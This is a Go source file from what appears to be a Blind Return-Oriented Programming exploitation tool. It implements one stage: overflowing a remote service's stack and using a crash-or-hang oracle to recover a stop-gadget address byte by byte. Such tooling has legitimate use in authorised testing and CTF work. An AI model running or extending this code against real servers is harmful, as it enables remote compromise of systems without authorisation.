package session

import (
	"github.com/voidspace-sec/brop/internal/cluster"
	"github.com/voidspace-sec/brop/internal/oracle"
)

// computeStopGadget is the fallback path for GetStopGadget when nothing
// has populated it as a side effect of GetReturnAddressOffset yet: it
// searches for a gadget address byte by byte the same way
// computePossibleReturnAddress recovers the return address, except here
// the first byte that comes back Infinite confirms the candidate really
// is a stop gadget, and every remaining byte is expected to also come
// back Infinite (C7).
//
// The original client's equivalent routine resumes scanning from zero
// on every later byte that doesn't come back Infinite, in an inner loop
// with no exit — an unbounded hang whenever the stack stops matching a
// stop-gadget address partway through. This port refuses to reproduce
// that: once a byte is known to belong to a stop gadget, any later byte
// that isn't also Infinite means the discovery has gone wrong, and the
// stage fails instead of spinning.
func (s *Session) computeStopGadget() (cluster.Gadget, bool) {
	overflow, ok := s.GetOverflowLength()
	if !ok {
		return cluster.Gadget{}, false
	}
	base, ok := s.payloadTillReturnAddress(overflow)
	if !ok {
		return cluster.Gadget{}, false
	}

	var gadget []byte
	sawInfinite := false

	for i := 0; i < 8; i++ {
		send := cluster.Append(append([]byte(nil), base...), cluster.WordCluster(cluster.Word(gadget)))

		b, infinite, readOK := oracle.ReadByte(s.transport, send)
		if !readOK {
			return cluster.Gadget{}, false
		}
		if !sawInfinite {
			gadget = append(gadget, b)
			if infinite {
				sawInfinite = true
			}
			continue
		}
		if !infinite {
			return cluster.Gadget{}, false
		}
		gadget = append(gadget, b)
	}

	if !sawInfinite {
		return cluster.Gadget{}, false
	}
	return cluster.GadgetFromFrame(cluster.FrameFromBytes(gadget)), true
}
